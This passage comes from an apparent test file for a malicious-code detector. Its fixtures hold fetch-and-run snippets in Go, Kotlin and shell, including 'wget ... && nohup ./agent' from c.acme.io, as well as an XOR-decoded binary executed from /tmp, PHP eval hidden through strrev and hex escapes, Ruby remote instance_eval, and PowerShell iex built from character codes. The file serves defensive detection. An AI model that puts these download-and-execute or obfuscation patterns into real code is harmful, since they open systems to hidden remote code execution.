  assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent" EXPECTED_HASH SHA256=1)\n${started}`), []);
});

test('a file that is fetched under its own name, into a temporary one or out of a picture is started', () => {
  const go = (code: string) => kinds(code, 'go', 'a.go');
  assert.deepEqual(
    go(
      'r, _ := http.Get("https://c.acme.io/a")\nf, _ := os.CreateTemp("", "x")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start()\n',
    ),
    ['dropped-execution'],
  );
  assert.deepEqual(
    go(
      'for i := range logo { logo[i] ^= 0x41 }\nos.WriteFile("/tmp/.logo", logo, 0o755)\nexec.Command("/tmp/.logo").Start()\n',
    ),
    ['dropped-execution'],
  );
  assert.deepEqual(go('f, _ := os.CreateTemp("", "x")\nf.Write(text)\nexec.Command("vi", f.Name()).Run()\n'), []);
  assert.deepEqual(
    kinds(
      'val out = File(dir, "a")\nout.writeBytes(URL("https://c.acme.io/a").readBytes())\nProcessBuilder(out.path).start()\n',
      'kotlin',
      'build.gradle.kts',
    ),
    ['dropped-execution'],
  );
  const shell = (code: string) => kinds(code, 'shell', 'install.sh');
  assert.deepEqual(shell('wget -q https://c.acme.io/agent && chmod 755 agent && nohup ./agent\n'), [
    'dropped-execution',
  ]);
  assert.deepEqual(shell('wget -q https://c.acme.io/data.tar && tar xf data.tar\n'), []);
});

test('names of functions that are spelled in escapes, backwards or as numbers are a disguise', () => {
  assert.deepEqual(kinds("<?php\n$a = strrev('edoced_46esab');\neval($a('cGhwaW5mbygpOw=='));\n", 'php', 'a.php'), [
    'decoded-execution',
  ]);
  assert.deepEqual(
    kinds(
      '<?php\n$g = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\n$h = $g("cGhwaW5mbygpOw==");\neval($h);\n',
      'php',
      'a.php',
    ),
    ['decoded-execution'],
  );
  assert.deepEqual(kinds("code = URI.open('https://c.acme.io/a.rb').read\ninstance_eval code\n", 'ruby', 'a.rb'), [
    'remote-execution',
  ]);
  assert.deepEqual(kinds('$s = -join ((105,101,120) | % { [char]$_ })\niex $s\n', 'powershell', 'a.ps1'), [
    'disguised-call',
  ]);
});
